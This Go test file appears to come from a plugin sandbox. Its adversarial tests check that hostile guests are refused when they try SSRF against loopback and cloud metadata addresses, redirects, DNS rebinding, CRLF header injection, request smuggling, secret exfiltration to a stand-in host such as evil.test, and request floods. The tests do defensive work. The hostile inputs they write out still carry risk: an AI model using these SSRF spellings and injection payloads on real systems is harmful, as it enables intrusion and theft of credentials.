package adversarial

import (
	"encoding/base64"
	"strconv"
	"strings"
	"testing"
)

// httpSkill loads the C guest with http granted to the good server only
// (literal address and port), to the stub names below, and the TOKEN
// secret.
func httpSkill(t *testing.T, name string) (*hostDirs, func(req string) capResult) {
	h := newHostDirs(t)
	good := w.good.hostPort()
	pl := load(t, "hostile", name, grantSpec{
		hosts:   []string{"http://" + good, "http://rebind.test:" + strconv.Itoa(w.good.port()), "http://mixed.test:" + strconv.Itoa(w.good.port()), "meta.test", "ten.test", "ok.test:" + strconv.Itoa(w.good.port())},
		methods: []string{"GET", "POST"},
		secrets: []string{"TOKEN"},
	})
	return h, func(req string) capResult { return runCap(t, pl, h, 1, "reef_http_fetch", req, nil) }
}

func fetchReq(u string, headers map[string]string) string {
	var b strings.Builder
	b.WriteString(`{"url":` + jsonStr(u))
	if len(headers) > 0 {
		b.WriteString(`,"headers":{`)
		first := true
		for k, v := range headers {
			if !first {
				b.WriteString(",")
			}
			first = false
			b.WriteString(jsonStr(k) + ":" + jsonStr(v))
		}
		b.WriteString("}")
	}
	b.WriteString("}")
	return b.String()
}

// TestSSRF: every spelling of a non-granted internal address is refused
// before any connection (the bad server sees nothing, netguard sees no
// dial; both are checked at the end of the run).
func TestSSRF(t *testing.T) {
	w.dns.set("meta.test", []string{"169.254.169.254"})
	w.dns.set("ten.test", []string{"10.0.0.1"})
	_, fetch := httpSkill(t, "ssrf-attacker")
	badPort := strconv.Itoa(w.bad.port())
	cases := []struct{ name, url, value string }{
		{"loopback, port not granted", "http://127.0.0.1:" + badPort + "/", "GET http://127.0.0.1:" + badPort},
		{"decimal", "http://2130706433:" + badPort + "/", "GET http://127.0.0.1:" + badPort},
		{"hex short", "http://0x7f.1:" + badPort + "/", "GET http://127.0.0.1:" + badPort},
		{"octal", "http://0177.0.0.1:" + badPort + "/", "GET http://127.0.0.1:" + badPort},
		{"short", "http://127.1:" + badPort + "/", "GET http://127.0.0.1:" + badPort},
		{"trailing dot", "http://127.0.0.1.:" + badPort + "/", "GET http://127.0.0.1:" + badPort},
		{"ipv6 loopback", "http://[::1]:" + badPort + "/", "GET http://[::1]:" + badPort},
		{"ipv4-mapped ipv6", "http://[::ffff:127.0.0.1]:" + badPort + "/", "GET http://127.0.0.1:" + badPort},
		{"metadata", "http://169.254.169.254/latest/meta-data/", "GET http://169.254.169.254"},
		{"metadata decimal", "http://2852039166/latest/meta-data/", "GET http://169.254.169.254"},
		{"rfc1918", "http://10.0.0.1/", "GET http://10.0.0.1"},
		{"name resolving to metadata", "http://meta.test/", "meta.test:80 (resolved to 169.254.169.254)"},
		{"name resolving to rfc1918", "http://ten.test/", "ten.test:80 (resolved to 10.0.0.1)"},
		{"granted address, other port", "http://127.0.0.1:1/", "GET http://127.0.0.1:1"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := fetch(fetchReq(c.url, nil))
			wantDenied(t, r.err, "http", c.value)
		})
	}
	t.Run("granted loopback works", func(t *testing.T) {
		r := fetch(fetchReq("http://"+w.good.hostPort()+"/", nil))
		if r.err != nil || !strings.HasSuffix(string(r.body), "hello from good") {
			t.Fatalf("granted fetch: %+v %q", r.err, r.body)
		}
	})
}

// TestSSRFRedirects: a granted server redirecting to internal addresses.
func TestSSRFRedirects(t *testing.T) {
	_, fetch := httpSkill(t, "redirect-attacker")
	badPort := strconv.Itoa(w.bad.port())
	for _, c := range []struct{ name, to, value string }{
		{"to non-granted loopback", "http://127.0.0.1:" + badPort + "/", "GET http://127.0.0.1:" + badPort},
		{"to decimal spelling", "http://2130706433:" + badPort + "/", "GET http://127.0.0.1:" + badPort},
		{"to metadata", "http://169.254.169.254/latest/meta-data/", "GET http://169.254.169.254"},
		{"to ipv6 loopback", "http://[::1]:" + badPort + "/", "GET http://[::1]:" + badPort},
		{"to rfc1918", "http://10.0.0.1/admin", "GET http://10.0.0.1"},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := fetch(fetchReq("http://"+w.good.hostPort()+"/redirect?to="+urlQuery(c.to), nil))
			wantDenied(t, r.err, "http", c.value)
		})
	}
}

// TestDNSRebinding: a granted name that first resolves to a trusted
// loopback address, then to metadata / a private address. reef resolves
// once per connection, checks every answer and dials the checked address.
func TestDNSRebinding(t *testing.T) {
	port := strconv.Itoa(w.good.port())
	w.dns.set("rebind.test", []string{"127.0.0.1"}, []string{"169.254.169.254"})
	w.dns.set("mixed.test", []string{"127.0.0.1", "10.0.0.1"})
	_, fetch := httpSkill(t, "rebind-attacker")
	r := fetch(fetchReq("http://rebind.test:"+port+"/", nil))
	if r.err != nil || !strings.HasSuffix(string(r.body), "hello from good") {
		t.Fatalf("first (honest) answer: %+v %q", r.err, r.body)
	}
	r = fetch(fetchReq("http://rebind.test:"+port+"/", nil))
	wantDenied(t, r.err, "http", "rebind.test:"+port+" (resolved to 169.254.169.254)")
	r = fetch(fetchReq("http://mixed.test:"+port+"/", nil))
	wantDenied(t, r.err, "http", "mixed.test:"+port+" (resolved to 10.0.0.1)")
}

// TestHeaderInjection: CR/LF/NUL in header values, names and URLs are
// refused before any request is sent.
func TestHeaderInjection(t *testing.T) {
	_, fetch := httpSkill(t, "header-attacker")
	base := "http://" + w.good.hostPort() + "/"
	before := w.good.hitCount()
	for _, c := range []struct {
		name string
		req  string
	}{
		{"CRLF in value", fetchReq(base, map[string]string{"X-A": "v\r\nX-Injected: 1"})},
		{"LF in value", fetchReq(base, map[string]string{"X-A": "v\nX-Injected: 1"})},
		{"NUL in value", fetchReq(base, map[string]string{"X-A": "v\x00X-Injected: 1"})},
		{"CRLF in name", fetchReq(base, map[string]string{"X-A\r\nX-Injected": "1"})},
		{"Host override", fetchReq(base, map[string]string{"Host": "169.254.169.254"})},
		{"CRLF in URL", fetchReq(base+"\r\nX-Injected: 1", nil)},
		{"CRLF in method", `{"url":` + jsonStr(base) + `,"method":"GET / HTTP/1.1\r\nX-Injected: 1\r\n"}`},
		{"smuggling via Transfer-Encoding", fetchReq(base, map[string]string{"Transfer-Encoding": "chunked"})},
	} {
		t.Run(c.name, func(t *testing.T) {
			wantCode(t, fetch(c.req).err, "invalid", "http")
		})
	}
	if n := w.good.hitCount(); n != before {
		t.Fatalf("%d malformed requests reached the server", n-before)
	}
	for _, r := range w.good.requests() {
		if r.Header.Get("X-Injected") != "" {
			t.Fatalf("an injected header reached the server: %v", r.Header)
		}
	}
}

// TestSecretExfiltration: the operator's secret is injected into requests
// to the granted host only, and the guest never sees it, even when the
// server echoes it back.
func TestSecretExfiltration(t *testing.T) {
	_, fetch := httpSkill(t, "secret-attacker")
	good := "http://" + w.good.hostPort()
	t.Run("echo is redacted", func(t *testing.T) {
		r := fetch(fetchReq(good+"/echo", map[string]string{"Authorization": "Bearer {{secret:TOKEN}}"}))
		if r.err != nil {
			t.Fatal(r.err)
		}
		if !strings.Contains(string(r.body), "you sent: Bearer [REDACTED]") {
			t.Fatalf("echoed body not redacted as expected: %q", r.body)
		}
		var seen bool
		for _, q := range w.good.requests() {
			if q.Header.Get("Authorization") == "Bearer "+w.secret {
				seen = true
			}
		}
		if !seen {
			t.Fatal("the secret was not injected into the granted request")
		}
	})
	t.Run("base64 echo is redacted", func(t *testing.T) {
		// The guest asks the server to reflect the secret in another
		// encoding (here: the Basic scheme the host builds from a template).
		r := fetch(fetchReq(good+"/echo", map[string]string{"Authorization": "{{secret:TOKEN}}"}))
		if r.err != nil {
			t.Fatal(r.err)
		}
		if strings.Contains(string(r.body), base64.StdEncoding.EncodeToString([]byte(w.secret))) {
			t.Fatal("base64 of the secret reached the guest")
		}
	})
	badPort := strconv.Itoa(w.bad.port())
	t.Run("to a non-granted host", func(t *testing.T) {
		r := fetch(fetchReq("http://127.0.0.1:"+badPort+"/", map[string]string{"Authorization": "Bearer {{secret:TOKEN}}"}))
		wantDenied(t, r.err, "http", "GET http://127.0.0.1:"+badPort)
	})
	t.Run("to a non-granted name", func(t *testing.T) {
		r := fetch(fetchReq("http://evil.test/", map[string]string{"Authorization": "Bearer {{secret:TOKEN}}"}))
		if r.err == nil || r.err.Code != "denied" {
			t.Fatalf("secret to evil.test: %+v", r.err)
		}
	})
	t.Run("secret not granted", func(t *testing.T) {
		r := fetch(fetchReq(good+"/echo", map[string]string{"Authorization": "{{secret:OTHER}}"}))
		wantDenied(t, r.err, "secrets", "OTHER -> "+good)
	})
	t.Run("redirect carries the secret away", func(t *testing.T) {
		r := fetch(fetchReq(good+"/redirect?to="+urlQuery("http://127.0.0.1:"+badPort+"/steal"), map[string]string{"Authorization": "Bearer {{secret:TOKEN}}"}))
		wantDenied(t, r.err, "http", "GET http://127.0.0.1:"+badPort)
	})
	t.Run("Go PDK", func(t *testing.T) {
		h := newHostDirs(t)
		pl := load(t, "hostile_go", "secret-attacker-go", grantSpec{hosts: []string{good}, secrets: []string{"TOKEN"}})
		r := runGo(t, pl, h, map[string]any{"op": "fetch", "url": good + "/echo", "headers": map[string]string{"Authorization": "{{secret:TOKEN}}"}})
		if !r.OK || r.Data != "you sent: [REDACTED]" || !strings.Contains(r.Seen[0], `"X-Echo":"[REDACTED]"`) {
			t.Fatalf("Go PDK echo: %+v", r)
		}
		r = runGo(t, pl, h, map[string]any{"op": "fetch", "url": "http://127.0.0.1:" + badPort + "/", "headers": map[string]string{"Authorization": "{{secret:TOKEN}}"}})
		wantDenied(t, r.doc(), "http", "GET http://127.0.0.1:"+badPort)
	})
}

// TestHTTPLimits: huge responses and request floods.
func TestHTTPLimits(t *testing.T) {
	h, fetch := httpSkill(t, "flood-attacker")
	good := "http://" + w.good.hostPort()
	r := fetch(fetchReq(good+"/big?n="+strconv.Itoa(20<<20), nil))
	wantCode(t, r.err, "limit", "http")
	// The guest lowers the cap itself: still a limit error, not a truncation.
	r = fetch(`{"url":` + jsonStr(good+"/big?n=5000") + `,"max_bytes":4096}`)
	wantCode(t, r.err, "limit", "http")
	// More requests per call than allowed (the host's cap is 64).
	pl := load(t, "hostile", "flood-attacker-2", grantSpec{hosts: []string{good}})
	rr := runCap(t, pl, h, 100, "reef_http_fetch", fetchReq(good+"/", nil), nil)
	wantCode(t, rr.err, "limit", "http")
	if rr.ok != 64 {
		t.Fatalf("%d requests succeeded in one call, want 64", rr.ok)
	}
	// The count is per call: the next call on the same (pooled) instance
	// starts from zero again.
	rr = runCap(t, pl, h, 100, "reef_http_fetch", fetchReq(good+"/", nil), nil)
	if rr.ok != 64 {
		t.Fatalf("%d requests succeeded in the next call, want 64 again", rr.ok)
	}
}

// TestExtismHTTPRequest: the Extism kernel's http_request gets the same
// checks; a denial aborts the call with a *policy.Denial reachable from
// the error.
func TestExtismHTTPRequest(t *testing.T) {
	h := newHostDirs(t)
	good := "http://" + w.good.hostPort()
	pl := load(t, "hostile", "extism-attacker", grantSpec{hosts: []string{good}, secrets: []string{"TOKEN"}})
	out, err := call(t, pl, h, "extism_http", []byte(`{"url":`+jsonStr(good+"/")+`,"method":"GET"}`))
	if err != nil || string(out) != "200\nhello from good" {
		t.Fatalf("granted: %q %v", out, err)
	}
	out, err = call(t, pl, h, "extism_http", []byte(`{"url":`+jsonStr(good+"/echo")+`,"method":"GET","headers":{"Authorization":"{{secret:TOKEN}}"}}`))
	if err != nil || string(out) != "200\nyou sent: [REDACTED]" {
		t.Fatalf("secret echo: %q %v", out, err)
	}
	badPort := strconv.Itoa(w.bad.port())
	for _, c := range []struct{ url, value string }{
		{"http://127.0.0.1:" + badPort + "/", "GET http://127.0.0.1:" + badPort},
		{"http://2130706433:" + badPort + "/", "GET http://127.0.0.1:" + badPort},
		{"http://169.254.169.254/latest/meta-data/", "GET http://169.254.169.254"},
		{good + "/redirect?to=" + urlQuery("http://[::ffff:127.0.0.1]:"+badPort+"/"), "GET http://127.0.0.1:" + badPort},
	} {
		_, err := call(t, pl, h, "extism_http", []byte(`{"url":`+jsonStr(c.url)+`,"method":"GET"}`))
		d := denialOf(err)
		if d == nil || d.Capability != "http" || d.Value != c.value || d.Skill != "extism-attacker" {
			t.Fatalf("%s: want a *policy.Denial http/%q, got %v", c.url, c.value, err)
		}
	}
	// The instance survives the denial.
	if out, err := call(t, pl, h, "extism_http", []byte(`{"url":`+jsonStr(good+"/")+`,"method":"GET"}`)); err != nil || string(out) != "200\nhello from good" {
		t.Fatalf("after denial: %q %v", out, err)
	}
}
